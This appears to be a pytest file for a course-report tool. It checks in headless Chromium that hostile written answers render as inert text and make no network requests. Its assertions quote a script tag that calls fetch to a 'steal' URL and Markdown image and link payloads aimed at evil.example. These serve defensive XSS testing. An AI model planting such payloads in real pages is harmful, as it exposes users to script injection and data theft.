"""The class report's written answers (issue 21) in headless Chromium: hostile texts
(markup, a script, a Markdown image, 1 MB of text) are shown as typed, run nothing and
fetch nothing (the page is opened from a file; any other request is recorded and refused)."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1]))
from test_class_report import open_offline  # noqa: E402
from test_classreport import write_written_class  # noqa: E402

from normcourse import classtext  # noqa: E402
from normcourse.cli import main  # noqa: E402


@pytest.mark.full  # suite budget: the escaping is asserted without a browser in
# tests/test_classreport.py, and the report's offline rendering by tests/browser/test_class_report.py
def test_written_answers_render_inert_and_offline(lab_browser, tmp_path, monkeypatch):
    monkeypatch.setattr(classtext, "EXAMPLES", 100)  # every text shown, hostile ones too
    files = write_written_class(tmp_path)
    out = tmp_path / "report.html"
    assert main(["report", *files, "--out", str(out)]) == 0
    context = lab_browser.browser.new_context()
    try:
        page, outside, problems, dialogs = open_offline(context, out)
        page.wait_for_timeout(300)
        items = page.evaluate("() => Array.from(document.querySelectorAll('li'))"
                              ".map(li => [li.innerText, li.children.length])")
        counts = page.evaluate("() => [document.scripts.length, document.links.length, "
                               "document.querySelectorAll('li img').length]")
        text = page.inner_text("body")
    finally:
        context.close()
    assert outside == [] and problems == [] and dialogs == []
    assert counts == [0, 0, 0]
    assert len(items) == 7 and all(n == 0 for _, n in items)  # text only, no element
    assert "12 of 16 answered (75.0 %); median 23 words per answer." in text
    assert any(t.startswith("<script>fetch('http://example.com/steal')</script>")
               for t, _ in items)
    assert any(t.startswith("![x](http://evil.example/x.png) [click](http://evil.example)")
               for t, _ in items)
    assert max(len(t) for t, _ in items) <= classtext.EXAMPLE_CAP
